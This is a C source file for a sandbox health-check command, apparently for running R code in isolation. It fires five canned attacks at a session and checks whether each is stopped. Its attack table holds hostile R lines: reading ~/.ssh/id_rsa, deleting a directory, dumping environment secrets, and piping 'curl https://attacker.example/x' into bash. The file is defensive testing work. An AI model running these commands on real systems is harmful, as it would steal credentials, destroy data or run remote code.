/* SPDX-License-Identifier: MIT */
/* brig doctor: which walls can stand here, which do, and what five attacks get. */
#include "bait.h"
#include "json_value.h"
#include "layers.h"
#include "probes.h"
#include "session_options.h"
#include "terminal.h"

#include <errno.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>

enum {
    SEEN_BYTES = 16 * 1024 * 1024,
    LAYER_TEXT_BYTES = 64,
    OPTION_JSON = OPTION_OF_COMMAND,
};

static const char usage_text[] = "usage: brig doctor [OPTION…]\n\n"
                                 "Show what this machine offers, let the server try its own walls, "
                                 "start a session and attack it.\n"
                                 "Exit status 0 only if everything was stopped.\n\n"
                                 "  --json               one JSON object\n" SESSION_USAGE;

/* `bait_file` and `port` are bound by us. An attack that must be seen to be refused names the kind. */
struct attack {
    const char *name;
    const char *shown; /* as people know it */
    const char *code;
    const char *violation; /* the kind of EVENT violation that tells who stopped it; or NULL */
    const char *probe;     /* of the self-test, which tells where no event does */
};

static const struct attack attacks[] = {
    {"read a private key", "readLines(\"~/.ssh/id_rsa\")",
     "unlist(lapply(c(\"~/.ssh/id_rsa\", bait_file), function(path)\n"
     "  tryCatch(suppressWarnings(readLines(path)), error = function(e) NULL)))",
     NULL, "host_file"},
    {"delete a directory", "unlink(\"/data/reports\", recursive = TRUE)",
     "unlink(c(\"/data/reports\", dirname(bait_file)), recursive = TRUE)", NULL, "write_outside"},
    {"read secrets of the environment", "Sys.getenv()", "Sys.getenv()", NULL, "environment"},
    {"start programs", "system(\"curl https://attacker.example/x | bash\")",
     "suppressWarnings(system(\"curl -s https://attacker.example/x | bash\", intern = FALSE))",
     "exec", NULL},
    {"open a connection", "socketConnection(\"127.0.0.1\", PORT)",
     "suppressWarnings(socketConnection(\"127.0.0.1\", port, blocking = TRUE, timeout = 2))",
     "socket", NULL},
};

enum { ATTACK_COUNT = sizeof(attacks) / sizeof(attacks[0]) };

struct verdict {
    bool is_blocked; /* or granted, and without effect on the bait */
    bool is_granted; /* by the profile */
    char layer[LAYER_TEXT_BYTES];
};

struct doctor {
    session_options session;
    bool json;
    brig_bait bait;
    brig_layer layers[LAYER_COUNT];
    brig_probe_table probes; /* empty with --connect: that server has tested itself */
    json_t *sandbox;         /* the server's statement, or NULL: no session */
    brig_buffer seen;        /* everything that came back from the present attack */
    const char *awaited;     /* kind of violation */
    char violation_layer[LAYER_TEXT_BYTES];
    struct verdict verdicts[ATTACK_COUNT];
};

static void copy_text(char to[LAYER_TEXT_BYTES], brig_span text)
{
    (void)snprintf(to, LAYER_TEXT_BYTES, "%.*s",
                   (int)(text.len < LAYER_TEXT_BYTES ? text.len : LAYER_TEXT_BYTES - 1),
                   (const char *)text.data);
}

static void on_notice(void *context, const brig_notice *notice)
{
    struct doctor *doctor = context;

    brig_buffer_append(&doctor->seen, notice->payload->encoded);
    if (notice->kind == BRIG_EVENT_KIND_VIOLATION && doctor->awaited != NULL &&
        brig_value_is_text(brig_value_get(notice->payload, "kind"), doctor->awaited))
        copy_text(doctor->violation_layer, brig_value_get_text(notice->payload, "layer", ""));
}

static void pack_args(const brig_bait *bait, brig_buffer *to)
{
    brig_pack_map(to, 2);
    brig_pack_key_text(to, "bait_file", bait->file);
    brig_pack_key_uint(to, "port", (uint64_t)bait->port);
}

/* Did the secret come out, was the bait touched, did somebody call? */
static bool has_escaped(const struct doctor *doctor)
{
    if (doctor->seen.fault != BRIG_OK || brig_bait_was_called(&doctor->bait) ||
        !brig_bait_is_untouched(&doctor->bait))
        return true;
    return doctor->seen.len > 0 && memmem(doctor->seen.data, doctor->seen.len, doctor->bait.secret,
                                          strlen(doctor->bait.secret)) != NULL;
}

/* Programs start where the profile says so: there they must not reach the bait. */
static bool is_granted(const struct doctor *doctor, const struct attack *attack)
{
    return attack->violation != NULL && strcmp(attack->violation, "exec") == 0 &&
           json_is_true(json_object_get(doctor->sandbox, "exec"));
}

/* What stopped it, by evidence: the event of this attack, or the probe that tries the same. */
static const char *find_layer(const struct doctor *doctor, const struct attack *attack)
{
    const brig_probe_row *row;

    if (attack->probe == NULL)
        return doctor->violation_layer;
    row = brig_probes_find(&doctor->probes, attack->probe);
    return row == NULL ? "a layer that the server does not tell" : row->layer;
}

/* False: the session is over. */
static bool run_attack(struct doctor *doctor, brig_client *client, size_t i)
{
    const struct attack *attack = &attacks[i];
    struct verdict *verdict = &doctor->verdicts[i];
    brig_eval eval = {.code = attack->code, .form = BRIG_FORM_TEXT};
    brig_buffer args;
    brig_result result;
    brig_status status;

    brig_buffer_clear(&doctor->seen);
    doctor->violation_layer[0] = '\0';
    doctor->awaited = attack->violation;
    brig_buffer_init(&args, 2 * (size_t)BAIT_PATH_BYTES);
    pack_args(&doctor->bait, &args);
    eval.args = brig_buffer_span(&args);
    status = args.fault == BRIG_OK ? brig_client_eval(client, &eval, &result) : args.fault;
    if (status == BRIG_OK)
        brig_buffer_append(&doctor->seen, result.value->encoded);
    brig_buffer_done(&args);
    if (status != BRIG_OK && status != BRIG_FAILED)
        return false;
    verdict->is_granted = is_granted(doctor, attack);
    verdict->is_blocked =
        !has_escaped(doctor) &&
        (attack->violation == NULL || verdict->is_granted || doctor->violation_layer[0] != '\0');
    copy_text(verdict->layer, brig_span_text(find_layer(doctor, attack)));
    return true;
}

static bool run_attacks(struct doctor *doctor)
{
    const brig_client_config config = {
        .software = "brig doctor " BRIG_VERSION, .on_notice = on_notice, .context = doctor};
    brig_result opened;
    brig_client *client = brig_session_begin(&doctor->session, &config, &opened);
    bool goes_on = client != NULL;

    if (client == NULL)
        return false;
    doctor->sandbox = brig_json_of(brig_value_get(opened.value, "sandbox"));
    for (size_t i = 0; i < ATTACK_COUNT && goes_on; i++)
        goes_on = run_attack(doctor, client, i);
    if (!goes_on)
        (void)brig_complain(0, "the session ended: %s", brig_client_error(client)->message);
    (void)brig_client_close(client);
    brig_client_free(client);
    return goes_on;
}

static void print_layers(const struct doctor *doctor)
{
    (void)puts("This machine");
    for (size_t i = 0; i < LAYER_COUNT; i++) {
        const brig_layer *layer = &doctor->layers[i];

        (void)printf("  %-12s %-8s %s\n", layer->name, layer->is_there ? "ok" : "missing",
                     layer->detail);
        if (!layer->is_there)
            (void)printf("  %-12s fix: %s\n", "", layer->fix);
    }
    (void)printf("  %-12s %s\n", "level", brig_layers_level(doctor->layers));
}

static void print_sandbox(const struct doctor *doctor)
{
    const char *key;
    json_t *value;

    (void)puts("\nThe sandbox in force, by the server's word");
    json_object_foreach(doctor->sandbox, key, value)
    {
        char *text = json_dumps(value, JSON_ENCODE_ANY | JSON_ENSURE_ASCII);

        if (text != NULL)
            (void)printf("  %-12s %s\n", key, text);
        free(text);
    }
}

static void print_probes(const struct doctor *doctor)
{
    (void)puts("\nThe walls, tried by native code: what stops each try, and with what");
    for (size_t i = 0; i < doctor->probes.count; i++) {
        const brig_probe_row *row = &doctor->probes.rows[i];

        (void)printf("  %-8s %-48s %s%s%s\n", row->state, row->what, row->layer,
                     row->layer[0] == '\0' ? "" : ": ", row->how);
    }
}

static void print_verdicts(const struct doctor *doctor)
{
    (void)puts("\nAttacks, by R code in that sandbox");
    for (size_t i = 0; i < ATTACK_COUNT; i++) {
        const struct verdict *verdict = &doctor->verdicts[i];

        (void)printf("  %-8s %s\n",
                     !verdict->is_blocked  ? "OPEN"
                     : verdict->is_granted ? "granted"
                                           : "blocked",
                     attacks[i].shown);
        if (verdict->is_blocked && !verdict->is_granted)
            (void)printf("  %-8s by %s\n", "", doctor->verdicts[i].layer);
    }
}

static json_t *probes_as_json(const brig_probe_table *probes)
{
    json_t *array = json_array();

    for (size_t i = 0; i < probes->count; i++) {
        const brig_probe_row *row = &probes->rows[i];

        (void)json_array_append_new(array, json_pack("{s:s, s:s, s:s, s:s, s:s}", "name", row->name,
                                                     "state", row->state, "layer", row->layer,
                                                     "how", row->how, "what", row->what));
    }
    return array;
}

static void print_json(const struct doctor *doctor, bool is_safe)
{
    json_t *layers = json_array();
    json_t *verdicts = json_array();
    json_t *object;

    for (size_t i = 0; i < LAYER_COUNT; i++)
        (void)json_array_append_new(
            layers, json_pack("{s:s, s:b, s:b, s:s, s:s?}", "name", doctor->layers[i].name, "ok",
                              (int)doctor->layers[i].is_there, "needed",
                              (int)doctor->layers[i].is_needed, "detail", doctor->layers[i].detail,
                              "fix", doctor->layers[i].is_there ? NULL : doctor->layers[i].fix));
    for (size_t i = 0; i < ATTACK_COUNT; i++)
        (void)json_array_append_new(
            verdicts, json_pack("{s:s, s:s, s:b, s:s}", "name", attacks[i].name, "code",
                                attacks[i].shown, "blocked", (int)doctor->verdicts[i].is_blocked,
                                "layer", doctor->verdicts[i].layer));
    object =
        json_pack("{s:b, s:o, s:s, s:o, s:O?, s:o}", "ok", (int)is_safe, "layers", layers, "level",
                  brig_layers_level(doctor->layers), "probes", probes_as_json(&doctor->probes),
                  "sandbox", doctor->sandbox, "attacks", verdicts);
    brig_json_print(object);
    json_decref(object);
}

/* Only of a server that we start; another one has tested itself before it served. */
static bool try_walls(struct doctor *doctor)
{
    const session_options *session = &doctor->session;
    const char *profile = session->open.profile == NULL ? "standard" : session->open.profile;
    char server[PATH_MAX];

    if (session->address.socket_path != NULL ||
        brig_server_find(&session->server, server, sizeof(server)) != BRIG_OK)
        return true; /* a server that is not there is told when a session is to begin */
    return brig_probes_run(server, profile, &doctor->probes) && doctor->probes.is_passed;
}

static int examine(struct doctor *doctor)
{
    bool is_safe;
    bool are_walls_sound;

    brig_layers_probe(doctor->layers);
    if (!doctor->json)
        print_layers(doctor);
    are_walls_sound = try_walls(doctor);
    if (!doctor->json && doctor->probes.count > 0)
        print_probes(doctor);
    if (!brig_bait_lay(&doctor->bait))
        return brig_complain(EXIT_INFRASTRUCTURE, "no bait for the attacks: %s", strerror(errno));
    is_safe = run_attacks(doctor) && are_walls_sound;
    for (size_t i = 0; i < ATTACK_COUNT; i++)
        is_safe = is_safe && doctor->verdicts[i].is_blocked;
    if (doctor->json) {
        print_json(doctor, is_safe);
    } else if (doctor->sandbox != NULL) {
        print_sandbox(doctor);
        print_verdicts(doctor);
    }
    if (doctor->sandbox == NULL)
        return EXIT_INFRASTRUCTURE;
    return is_safe ? EXIT_SUCCESS : EXIT_CODE_FAILED;
}

int brig_cmd_doctor(int argc, char **argv)
{
    static const struct option options[] = {
        {"json", no_argument, NULL, OPTION_JSON},
        SESSION_OPTIONS,
        {NULL, 0, NULL, 0},
    };
    struct doctor doctor = {.bait = {.listener = -1}};
    int exit_code;
    int option;

    while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
        if (option == OPTION_HELP)
            return fputs(usage_text, stdout) < 0 ? EXIT_INFRASTRUCTURE : EXIT_SUCCESS;
        if (option == OPTION_JSON)
            doctor.json = true;
        else if (brig_session_option(&doctor.session, option, optarg) != OPTION_TAKEN)
            return EXIT_USAGE;
    }
    if (!brig_session_options_end(&doctor.session))
        return EXIT_USAGE;
    brig_buffer_init(&doctor.seen, SEEN_BYTES);
    exit_code = examine(&doctor);
    brig_bait_remove(&doctor.bait);
    brig_buffer_done(&doctor.seen);
    json_decref(doctor.sandbox);
    return exit_code;
}
